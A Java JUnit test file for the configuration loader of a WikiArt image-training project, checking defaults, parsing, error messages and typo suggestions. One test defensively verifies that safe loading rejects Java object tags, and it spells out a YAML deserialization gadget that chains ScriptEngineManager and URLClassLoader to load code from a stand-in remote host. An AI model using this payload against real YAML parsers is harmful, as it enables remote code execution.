package io.github.wikiart.train.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.wikiart.config.ConfigException;
import io.github.wikiart.data.DataOptions;
import io.github.wikiart.data.JpegLibrary;
import io.github.wikiart.data.ResizeMode;
import io.github.wikiart.data.Sampling;
import io.github.wikiart.train.autoencoder.AutoencoderOptions;
import io.github.wikiart.train.classifier.ClassifierOptions;
import io.github.wikiart.train.OutputOptions;
import io.github.wikiart.train.transfer.TransferOptions;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {

    private static WikiartConfig parse(String yaml) {
        return ConfigLoader.parse(yaml, "config.yaml", List.of());
    }

    private static String error(String yaml) {
        return assertThrows(ConfigException.class, () -> parse(yaml)).getMessage();
    }

    private static void assertContains(String message, String... parts) {
        for (String p : parts) {
            assertTrue(message.contains(p), () -> "expected '" + p + "' in: " + message);
        }
    }

    @Test
    void defaults() {
        WikiartConfig c = WikiartConfig.defaults();
        assertEquals(1L, c.seed());
        DataOptions d = c.data();
        assertEquals(Path.of("data"), d.root());
        assertEquals("train", d.trainDir());
        assertEquals("test", d.testDir());
        assertEquals(64, d.imageSize());
        assertEquals(ResizeMode.STRETCH, d.resize());
        assertEquals(Sampling.NONE, d.trainSampling());
        assertEquals(Sampling.NONE, d.testSampling());
        assertEquals(0, d.toySample());
        assertEquals(100_000_000L, d.maxPixels());
        assertEquals(Path.of("runs"), c.output().runsDir());
        assertEquals(c, ConfigLoader.fromOverrides(List.of()));
    }

    @Test
    void emptyFileAndCommentOnlyFileAreDefaults() {
        assertEquals(WikiartConfig.defaults(), parse(""));
        assertEquals(WikiartConfig.defaults(), parse("# nothing here\n"));
        assertEquals(WikiartConfig.defaults(), parse("data:\noutput:\n"));
    }

    @Test
    void fullFileWithEveryKey() {
        WikiartConfig c = parse("""
                seed: 42
                data:
                  root: /srv/wikiart
                  train_dir: training
                  test_dir: testing
                  image_size: 104
                  resize: crop
                  train_sampling: mean
                  test_sampling: 0.25
                  toy_sample: 20
                  max_pixels: 50_000_000
                  jpeg_library: imageio
                output:
                  runs_dir: out/runs
                """);
        DataOptions expectedData = new DataOptions(Path.of("/srv/wikiart"), "training", "testing", 104,
                ResizeMode.CROP, new Sampling.Mean(), new Sampling.Fraction(0.25), 20, 50_000_000L, JpegLibrary.IMAGEIO,
                "none", 0.8, 0.1, false, 42L);
        assertEquals(new WikiartConfig(42L, expectedData, OutputOptions.under(Path.of("out/runs")),
                ClassifierOptions.defaults(), AutoencoderOptions.defaults(), TransferOptions.defaults()), c);
    }

    @Test
    void samplingValues() {
        DataOptions d = parse("data:\n  train_sampling: mean\n  test_sampling: 0.8\n").data();
        assertEquals(new Sampling.Mean(), d.trainSampling());
        assertEquals(new Sampling.Fraction(0.8), d.testSampling());
        d = parse("data:\n  train_sampling: 500\n  test_sampling: false\n").data();
        assertEquals(new Sampling.Count(500), d.trainSampling());
        assertEquals(Sampling.NONE, d.testSampling());
        d = parse("data:\n  train_sampling: null\n  test_sampling: MAX\n").data();
        assertEquals(Sampling.NONE, d.trainSampling());
        assertEquals(new Sampling.Max(), d.testSampling());
        d = parse("data:\n  train_sampling: 'min'\n  test_sampling: none\n").data();
        assertEquals(new Sampling.Min(), d.trainSampling());
        assertEquals(Sampling.NONE, d.testSampling());
    }

    @Test
    void badSamplingNamesKeyValueAndExpectation() {
        String m = error("data:\n  train_sampling: 1.5\n");
        assertContains(m, "config.yaml line 2", "data.train_sampling", "'1.5'", "expected none, mean, max, min");
        m = error("data:\n  test_sampling: true\n");
        assertContains(m, "line 2", "data.test_sampling", "'true'");
        m = error("data:\n  test_sampling: average\n");
        assertContains(m, "data.test_sampling", "'average'");
    }

    @Test
    void unknownKeyNamesKeyLineAndSuggestion() {
        String m = error("seed: 3\ndata:\n  root: x\n  trian_dir: t\n");
        assertEquals("config.yaml line 4: unknown key 'data.trian_dir'; did you mean 'data.train_dir'?", m);
        m = error("sed: 3\n");
        assertEquals("config.yaml line 1: unknown key 'sed'; did you mean 'seed'?", m);
        m = error("data:\n  imag_size: 64\n");
        assertContains(m, "line 2", "'data.imag_size'", "did you mean 'data.image_size'?");
    }

    @Test
    void keyInTheWrongSectionSuggestsTheRightOne() {
        String m = error("image_size: 64\n");
        assertContains(m, "line 1", "unknown key 'image_size'", "did you mean 'data.image_size'?");
        m = error("output:\n  root: x\n");
        assertContains(m, "line 2", "'output.root'", "did you mean 'data.root'?");
    }

    @Test
    void misspeltSectionSuggestsTheSection() {
        String m = error("dta:\n  image_size: 64\n");
        assertContains(m, "line 1", "unknown key 'dta'", "did you mean 'data'?");
    }

    @Test
    void flatDottedKeyIsRejectedWithAHint() {
        String m = error("data.image_size: 64\n");
        assertContains(m, "line 1", "'data.image_size'", "nested", "'image_size:'", "'data'");
        m = error("data.imagesize: 64\n");
        assertContains(m, "unknown key 'data.imagesize'", "did you mean 'data.image_size'?");
    }

    @Test
    void typeErrorsNameKeyValueAndExpectation() {
        assertEquals("config.yaml line 3: data.image_size: expected an integer in 8..4096, got 'abc'",
                error("seed: 1\ndata:\n  image_size: abc\n"));
        assertContains(error("seed: one\n"), "line 1", "seed: expected an integer", "got 'one'");
        assertContains(error("seed: 1.5\n"), "seed", "'1.5'");
        assertContains(error("data:\n  resize: squash\n"), "line 2", "data.resize",
                "expected stretch, crop or pad", "'squash'");
        assertContains(error("data:\n  image_size: [1, 2]\n"), "line 2", "data.image_size", "got a list");
        assertContains(error("data:\n  train_dir:\n"), "line 2", "data.train_dir",
                "expected a non-empty string", "got nothing");
        assertContains(error("seed: 99999999999999999999\n"), "seed", "'99999999999999999999'");
    }

    @Test
    void rangeErrorsNameKeyValueAndExpectation() {
        assertContains(error("data:\n  image_size: 4\n"), "line 2",
                "data.image_size: expected an integer in 8..4096, got '4'");
        assertContains(error("data:\n  image_size: 5000\n"), "'5000'", "8..4096");
        assertContains(error("data:\n  toy_sample: -1\n"), "data.toy_sample: expected an integer >= 0, got '-1'");
        assertContains(error("data:\n  max_pixels: 0\n"), "data.max_pixels: expected an integer >= 1, got '0'");
    }

    @Test
    void quotedNumbersAndStringLikeValues() {
        WikiartConfig c = parse("seed: '7'\ndata:\n  train_dir: 2020\n  resize: PAD\n");
        assertEquals(7L, c.seed());
        assertEquals("2020", c.data().trainDir());
        assertEquals(ResizeMode.PAD, c.data().resize());
        assertEquals(-5L, parse("seed: -5\n").seed());
    }

    @Test
    void structuralErrors() {
        assertContains(error("data: 5\n"), "line 1", "'data' is a section", "mapping", "got '5'");
        assertContains(error("data:\n  - root\n"), "'data' is a section", "got a list");
        assertContains(error("- 1\n- 2\n"), "line 1", "top level must be a mapping");
        assertContains(error("just text\n"), "top level must be a mapping", "'just text'");
        assertContains(error("seed: 1\ndata:\n  root: a\n  root: b\n"), "line 4", "duplicate key 'data.root'",
                "first given on line 3");
        assertContains(error("seed: 1\nseed: 2\n"), "line 2", "duplicate key 'seed'");
        assertContains(error("seed: {a: 1}\n"), "seed", "got a mapping");
    }

    @Test
    void syntaxErrorNamesFileAndLine() {
        String m = error("seed: 1\ndata:\n  root: [a\n");
        assertContains(m, "config.yaml line", "invalid YAML", "started on line 3");
        m = error("seed: 1\n  data: x\n");
        assertContains(m, "config.yaml line 2", "invalid YAML");
    }

    @Test
    void safeLoadingRejectsJavaObjectTags() {
        String attack = "seed: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://example.invalid/\"]]]]\n";
        String m = error(attack);
        assertContains(m, "config.yaml line 1", "tag");
        m = error("data:\n  root: !!java.io.File [/etc]\n");
        assertContains(m, "config.yaml line 2", "tag");
        m = error("data:\n  root: !custom x\n");
        assertContains(m, "line 2", "data.root", "unsupported YAML tag");
        // a standard tag is fine
        assertEquals("123", parse("data:\n  train_dir: !!str 123\n").data().trainDir());
    }

    @Test
    void loadReadsAFileAndNamesIt(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("config.yaml");
        Files.writeString(file, "seed: 9\ndata:\n  image_size: 104\n");
        WikiartConfig c = ConfigLoader.load(file, List.of("seed=10"));
        assertEquals(10L, c.seed());
        assertEquals(104, c.data().imageSize());

        Files.writeString(file, "seed: 9\ndata:\n  imagesize: 104\n");
        String m = assertThrows(ConfigException.class, () -> ConfigLoader.load(file, List.of())).getMessage();
        assertContains(m, file.toString() + " line 3", "data.imagesize", "data.image_size");

        Path missing = dir.resolve("missing.yaml");
        m = assertThrows(ConfigException.class, () -> ConfigLoader.load(missing, List.of())).getMessage();
        assertContains(m, "cannot read config file", missing.toString());
    }
}
